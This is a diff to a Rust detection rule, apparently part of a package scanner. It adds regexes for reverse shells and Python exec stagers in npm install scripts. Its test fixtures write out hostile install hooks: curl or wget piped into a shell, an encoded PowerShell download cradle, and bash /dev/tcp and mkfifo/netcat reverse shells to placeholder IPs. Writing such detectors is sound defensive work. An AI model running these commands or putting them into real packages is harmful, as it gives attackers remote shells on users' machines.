@@ -19,9 +19,13 @@ crate::declare_rule! {
     case_file: "package.json",
     flag: [r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl -s http://cdn.example.net/i.sh | sh"}}"#,
            r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA"}}"#,
-           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== index.js\nrequire('child_process').execSync('wget -qO- ' + u + ' | bash')"],
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== index.js\nrequire('child_process').execSync('wget -qO- ' + u + ' | bash')",
+           r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"bash -c 'bash -i >& /dev/tcp/203.0.113.5/4443 0>&1 &'"}}"#,
+           r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/f"}}"#,
+           r#"{"name":"a","version":"1.0.0","scripts":{"install":"python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""}}"#],
     pass: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
-           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nInstall with `curl -fsSL https://get.example.sh | sh`"],
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nInstall with `curl -fsSL https://get.example.sh | sh`",
+           r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"python3 -c \"import sys; print(sys.version)\" && nc -z localhost 8080 || true"}}"#],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -39,6 +43,14 @@ fn check(pkg: &Package, out: &mut Emitter) {
     );
     let fetch_run = crate::regex!(
         r"(?i)\b(curl|wget)\b[^\n;|]{0,200}(-o|-O|--output)\s*\S+[^\n]{0,120}(chmod\s+\+x|&&\s*\./|;\s*\./|\bstart\b|\bnohup\b)"
+    );
+    // An interactive shell wired to a socket: bash's /dev/tcp, mkfifo + netcat, nc -e.
+    let revshell = crate::regex!(
+        r"(?i)\b(ba|z|da)?sh\s+-i\b[^\n]{0,60}>&\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/[\w.\-]+/\d+[^\n]{0,20}0>&1|\bmkfifo\b[^\n]{0,160}\b(nc|ncat|netcat)\b|\b(nc|ncat|netcat)(\.exe)?\b[^\n|;]{0,80}\s-(e|c)\s+\S*(sh|cmd(\.exe)?)\b"
+    );
+    // A Python one-liner that decodes or fetches a stage and exec()s it.
+    let pyexec = crate::regex!(
+        r"(?i)\bpython[23w]?(\.exe)?\s+-c\s+[^\n]{0,200}\bexec\s*\(\s*(base64\.b64decode|__import__\(\s*['\x22](base64|zlib|urllib)|zlib\.decompress|urllib\.request\.urlopen|requests\.get)"
     );
     for f in code_files(pkg).chain(
         pkg.files
@@ -76,8 +88,19 @@ fn check(pkg: &Package, out: &mut Emitter) {
         } else {
             Severity::High
         };
+        if let Some((off, m)) = find_text(f, revshell).into_iter().next() {
+            out.hit_ev(
+                sev,
+                pkg,
+                f,
+                off,
+                "opens a reverse shell (a shell wired to a network socket)",
+                m,
+            );
+            continue;
+        }
         let mut found = None;
-        for re in [pipe, cradle, lolbin, fetch_run] {
+        for re in [pipe, cradle, lolbin, fetch_run, pyexec] {
             if let Some(m) = find_text(f, re).into_iter().next() {
                 found = Some(m);
                 break;
